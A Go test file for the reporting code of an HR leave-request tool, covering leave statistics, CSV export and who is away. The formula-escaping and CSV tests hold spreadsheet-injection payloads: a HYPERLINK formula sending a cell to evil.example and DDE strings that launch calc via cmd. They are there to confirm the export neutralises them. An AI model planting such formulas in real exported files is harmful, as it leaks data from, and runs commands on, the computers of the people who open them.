package report

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/leaveway/leaveway/agent"
	"github.com/leaveway/leaveway/agent/timeoff"
)

// filed makes a request of a kind, filed at a time, decided so many hours later (0 is not yet).
func filed(who agent.UserID, kind, at string, hours int, state agent.RequestState) agent.Request {
	filed, err := time.Parse("2006-01-02 15:04", at)
	if err != nil {
		panic(err)
	}
	r := agent.Request{ID: agent.RequestID("LR-" + kind), Employee: agent.PersonRef{ID: who, Name: string(who)}, WizardName: kind, State: state, FiledAt: filed}
	if hours > 0 {
		r.Decided = &agent.Signature{By: "hana", Name: "Hana Kim", At: filed.Add(time.Duration(hours) * time.Hour)}
	}
	return r
}

func days(from, to string) map[string]string {
	return map[string]string{"leave_start": from, "leave_end": to}
}

func TestFigures(t *testing.T) {
	t.Parallel()
	ny, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Fatal(err)
	}
	parts := days("2026-03-02", "2026-03-06")
	parts["pattern"] = "intermittent"
	changed := filed("amir", "Vacation", "2025-05-04 12:00", 30, agent.Approved) // that somebody wants changed
	changed.Amendments = []agent.Amendment{{State: agent.AmendmentOpen, Asked: agent.Signature{At: time.Date(2026, time.November, 17, 12, 0, 0, 0, time.UTC)}}}
	proposed := changed // by HR, so it's the employee's turn
	proposed.Amendments = []agent.Amendment{{State: agent.AmendmentOpen, ByHR: true}}
	f := Of(2026, ny, []Leave{
		// Monday, December 28 to Friday, January 8: four workdays of 2026 and six of 2027
		Taken(filed("dana", "Vacation", "2026-11-02 12:00", 2, agent.Approved), days("2026-12-28", "2027-01-08"), nil),
		Taken(filed("sam", "Vacation", "2026-11-03 12:00", 4, agent.Approved), days("2026-11-06", "2026-11-09"), nil),
		// decided on New Year's Eve in New York, which is 2027 in UTC
		Taken(filed("dana", "Sick day", "2026-12-31 20:00", 6, agent.Approved), days("2027-01-04", "2027-01-04"), nil),
		Taken(filed("dana", "Vacation", "2026-11-04 12:00", 30, agent.Denied), days("2026-11-16", "2026-11-20"), nil),
		Taken(filed("amir", "Medical leave", "2026-02-01 12:00", 40, agent.Approved), parts, nil),
		Taken(filed("lee", "Vacation", "2026-11-20 12:00", 0, agent.Filed), days("2026-12-01", "2026-12-02"), nil),
		Taken(filed("lee", "Jury duty", "2026-11-18 12:00", 0, agent.Questioned), days("2026-12-08", "2026-12-08"), nil),
		Taken(changed, days("2025-06-02", "2025-06-03"), nil),
		Taken(proposed, days("2025-06-02", "2025-06-03"), nil),
	})
	want := "[{Vacation 21600 2 2}] waiting 3 since 2026-11-17, 4+1, median 6h0m0s, unknown 1, guessed 2"
	got := fmt.Sprintf("%v waiting %d since %s, %d+%d, median %s, unknown %d, guessed %d",
		f.Kinds, f.Waiting, f.Oldest.Format(time.DateOnly), f.Approved, f.Denied, f.Median, f.Unknown, f.Guessed)
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if next := Of(2027, ny, []Leave{Taken(filed("dana", "Vacation", "2026-11-02 12:00", 2, agent.Approved), days("2026-12-28", "2027-01-08"), nil)}); len(next.Kinds) != 1 || next.Kinds[0].Workdays != 6*timeoff.One || next.Approved != 0 {
		t.Errorf("in the next year: %+v", next)
	}
}

func TestMedian(t *testing.T) {
	t.Parallel()
	for want, of := range map[time.Duration][]time.Duration{0: nil, 3: {3}, 4: {5, 3}, 5: {9, 5, 1}} {
		if got := median(of); got != want {
			t.Errorf("%v: %d, want %d", of, got, want)
		}
	}
}

// TestInert has cells that a spreadsheet would compute, and some that it wouldn't.
func TestInert(t *testing.T) {
	t.Parallel()
	for _, cell := range []string{
		`=HYPERLINK("https://evil.example/?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1", "＠x", "|calc", "%0a=1", "\n=1", "\u3000=cmd|' /C calc'!A0",
	} {
		if got := Inert(cell); !strings.HasPrefix(got, "'") {
			t.Errorf("%q becomes %q, which a spreadsheet computes", cell, got)
		}
	}
	for cell, want := range map[string]string{"": "", "Dana Reyes": "Dana Reyes", "2026-11-20": "2026-11-20", "O'Neil": "O'Neil", "a;=1": "a,=1", "a\nb": "a b"} {
		if got := Inert(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	evil := filed("dana", "Vacation", "2026-11-02 12:00", 2, agent.Approved)
	evil.Employee.Name = `=cmd|' /C calc'!A0,"x"` + "\r\n=1"
	evil.Reason, evil.Answers = "private", []agent.FiledAnswer{{Display: "hysterectomy"}}
	table, n := CSV(2026, time.UTC, []Leave{
		Taken(filed("sam", "Vacation", "2025-11-03 12:00", 4, agent.Approved), days("2025-11-06", "2025-11-09"), nil),
		Taken(filed("lee", "Other", "2026-11-03 12:00", 0, agent.Filed), nil, nil),
		Taken(evil, map[string]string{"leave_start": "2026-11-05", "weeks_asked": "morning"}, nil),
	})
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(table), mark))).ReadAll()
	if err != nil || n != 2 || len(rows) != 3 {
		t.Fatalf("%d lines, %v: %q", n, err, table)
	}
	want := []string{"LR-Vacation", `'=cmd|' /C calc'!A0,"x"  =1`, "dana", "Vacation", "approved", "2026-11-05", "2026-11-05", "0.5", "2026-11-02 12:00", "2026-11-02 14:00", "Hana Kim"}
	if got := strings.Join(rows[1], "\n"); got != strings.Join(want, "\n") {
		t.Errorf("got\n%s", got)
	}
	if got := strings.Join(rows[2], "|"); got != "LR-Other|lee|lee|Other|waiting||||2026-11-03 12:00||" {
		t.Errorf("without days: %s", got)
	}
	if strings.Contains(string(table), "private") || strings.Contains(string(table), "hysterectomy") {
		t.Error("the table has what was answered, or why it was denied")
	}
}

func TestEndingSoon(t *testing.T) {
	t.Parallel()
	today := timeoff.On(2026, time.November, 23)
	ends := Taken(filed("dana", "Vacation", "2026-11-02 12:00", 2, agent.Approved), days("2026-11-16", "2026-11-27"), nil)
	later := Taken(filed("sam", "Vacation", "2026-11-02 12:00", 2, agent.Approved), days("2026-11-16", "2026-12-07"), nil)
	denied := Taken(filed("sam", "Vacation", "2026-11-02 12:00", 2, agent.Denied), days("2026-11-16", "2026-11-27"), nil)
	soon := EndingSoon([]Leave{later, denied, ends}, today, today+13)
	if len(soon) != 1 || soon[0].Employee.ID != "dana" || soon[0].Back() != timeoff.On(2026, time.November, 30) {
		t.Errorf("ending soon: %+v", soon)
	}
	weekend := Taken(filed("sam", "Vacation", "2026-11-02 12:00", 2, agent.Approved), days("2026-11-28", "2026-11-29"), nil)
	if away := Away([]Leave{weekend, later, ends}, today+5, today+6); len(away) != 0 {
		t.Errorf("on a weekend: %+v", away)
	}
	if away := Away([]Leave{later, ends}, today, today+6); len(away) != 2 || away[0].Employee.ID != "dana" {
		t.Errorf("this week: %+v", away)
	}
}
